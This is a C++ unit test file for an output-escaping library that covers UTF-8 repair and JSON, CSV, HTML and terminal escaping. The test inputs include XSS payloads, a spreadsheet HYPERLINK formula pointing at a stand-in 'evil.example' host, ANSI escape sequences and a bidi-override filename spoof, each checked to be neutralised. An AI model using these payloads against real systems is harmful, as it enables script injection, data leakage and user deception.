#include "reports/escape.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <random>
#include <string>

namespace oitwatch {
namespace {

using std::string_literals::operator""s;

const std::string kFffd = "\xEF\xBF\xBD";

struct Case {
  std::string in;
  std::string want;
};

// Shows control bytes of a failing input readably.
std::string Show(const std::string& s) {
  std::string out;
  for (unsigned char c : s) {
    if (c < 0x20 || c >= 0x7F) {
      char buf[8];
      std::snprintf(buf, sizeof(buf), "\\x%02x", c);
      out += buf;
    } else {
      out.push_back(static_cast<char>(c));
    }
  }
  return out;
}

TEST(ValidUtf8Test, ReplacesEachMaximalInvalidSubpartWithFffd) {
  const Case cases[] = {
      {"", ""},
      {"plain ascii", "plain ascii"},
      {"สำนักงานเขตหลักสี่", "สำนักงานเขตหลักสี่"},
      {"emoji \xF0\x9F\x98\x80", "emoji \xF0\x9F\x98\x80"},
      {"\xff", kFffd},
      {"a\x80z", "a" + kFffd + "z"},
      {"\xE0\xB8", kFffd},                      // truncated Thai letter
      {"\xE0\xB8"s + "a", kFffd + "a"},         // truncated, then ASCII
      {"\xC0\xAF", kFffd + kFffd},              // overlong '/'
      {"\xED\xA0\x80", kFffd + kFffd + kFffd},  // UTF-16 surrogate
      {"\xF4\x90\x80\x80", kFffd + kFffd + kFffd + kFffd},  // > U+10FFFF
      {"\xF0\x9F\x98", kFffd},                              // truncated emoji
      {"a\0b"s, "a\0b"s},  // NUL is valid UTF-8
  };
  for (const Case& c : cases) {
    EXPECT_EQ(ValidUtf8(c.in), c.want) << Show(c.in);
  }
}

TEST(JsonStringTest, EscapesQuotesControlsAndHtmlSpecials) {
  const Case cases[] = {
      {"", R"("")"},
      {"ไทย", "\"ไทย\""},
      {R"(say "hi" \ bye)", R"("say \"hi\" \\ bye")"},
      {"a\nb\rc\td\be\ff", R"("a\nb\rc\td\be\ff")"},
      {"a\0b"s, R"("a\u0000b")"},
      {"\x1b[31mred", R"("\u001b[31mred")"},
      {"\x7f", R"("\u007f")"},
      {"<script>alert(1)</script>",
       R"("\u003cscript\u003ealert(1)\u003c/script\u003e")"},
      {R"("><img src=x onerror=alert(1)>)",
       R"("\"\u003e\u003cimg src=x onerror=alert(1)\u003e")"},
      {"a&b", R"("a\u0026b")"},
      {"line\xE2\x80\xA8sep\xE2\x80\xA9", R"("line\u2028sep\u2029")"},
      {"\xE2\x80\xAE", "\"\xE2\x80\xAE\""},  // bidi: data, kept in JSON
      {"bad\xff", "\"bad" + kFffd + "\""},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(JsonString(c.in), c.want) << Show(c.in);
  }
}

TEST(JsonStringTest, ScriptCloseTagNeverAppearsInOutput) {
  std::string out = JsonString("</script><script>alert(1)</script>");
  EXPECT_EQ(out.find("</"), std::string::npos) << out;
  EXPECT_EQ(out.find('<'), std::string::npos) << out;
}

TEST(JsonStringTest, RandomBytesAlwaysGiveStrictlyValidJson) {
  std::mt19937 rng(20250410);
  std::uniform_int_distribution<int> byte(0, 255), len(0, 40);
  for (int round = 0; round < 2000; ++round) {
    std::string in(static_cast<size_t>(len(rng)), '\0');
    for (char& c : in) c = static_cast<char>(byte(rng));
    std::string out = JsonString(in);
    nlohmann::json parsed;
    ASSERT_NO_THROW(parsed = nlohmann::json::parse(out)) << Show(in);
    ASSERT_TRUE(parsed.is_string()) << Show(in);
    EXPECT_EQ(parsed.get<std::string>(), ValidUtf8(in)) << Show(in);
  }
}

TEST(CsvFieldTest, QuotesPerRfc4180AndGuardsFormulas) {
  const Case cases[] = {
      {"", ""},
      {"plain", "plain"},
      {"สำนักงานเขตหลักสี่", "สำนักงานเขตหลักสี่"},
      {"1-2", "1-2"},  // only a leading trigger counts
      {"a,b", R"("a,b")"},
      {R"(say "hi")", R"("say ""hi""")"},
      {"a\r\nb", "\"a\r\nb\""},
      {R"x(=HYPERLINK("http://evil.example/?x","click"))x",
       R"x("'=HYPERLINK(""http://evil.example/?x"",""click"")")x"},
      {"=1+1", "'=1+1"},
      {"+1", "'+1"},
      {"-2", "'-2"},
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
      {"\tcmd", "'\tcmd"},
      {"\rcmd", "\"'\rcmd\""},
      {"\ncmd", "\"'\ncmd\""},
      {"a\0b"s, "ab"},
      {"\0=1"s, "'=1"},  // a NUL cannot hide a trigger
      {"bad\xff", "bad" + kFffd},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(CsvField(c.in), c.want) << Show(c.in);
  }
}

TEST(HtmlEscapeTest, EscapesTheFiveSpecials) {
  const Case cases[] = {
      {"", ""},
      {"ไทย", "ไทย"},
      {"<script>alert('x')</script>",
       "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"},
      {R"("><img src=x onerror=alert(1)>)",
       "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"},
      {"a&amp;b", "a&amp;amp;b"},
      {"a\0b"s, "a" + kFffd + "b"},
      {"bad\xff", "bad" + kFffd},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(HtmlEscape(c.in), c.want) << Show(c.in);
  }
}

TEST(TerminalSafeTest, NeutralisesControlsAndBidiKeepsThai) {
  const Case cases[] = {
      {"", ""},
      {"สำนักงานเขตหลักสี่", "สำนักงานเขตหลักสี่"},
      {"คำ\xE2\x80\x8Bคำ", "คำ\xE2\x80\x8Bคำ"},  // U+200B word break kept
      {"\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"},
      {"\x1b]0;title\x07", "\\x1b]0;title\\x07"},
      {"a\r\nb", "a  b"},
      {"a\tb", "a b"},
      {"a\0b"s, "a\\x00b"},
      {"\x7f", "\\x7f"},
      {"\xC2\x9B"s + "2J", "\\x9b2J"},  // C1 CSI as a code point
      {"\x9b"s + "2J", kFffd + "2J"},   // C1 CSI as a raw byte
      {"evil\xE2\x80\xAE"s + "fdp.exe", "evil\\u202efdp.exe"},
      {"\xE2\x81\xA6x\xE2\x81\xA9", "\\u2066x\\u2069"},
      {"\xE2\x80\x8F", "\\u200f"},
      {"a\xE2\x80\xA8"s + "b", "a b"},
      {"bad\xff", "bad" + kFffd},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(TerminalSafe(c.in), c.want) << Show(c.in);
  }
}

}  // namespace
}  // namespace oitwatch
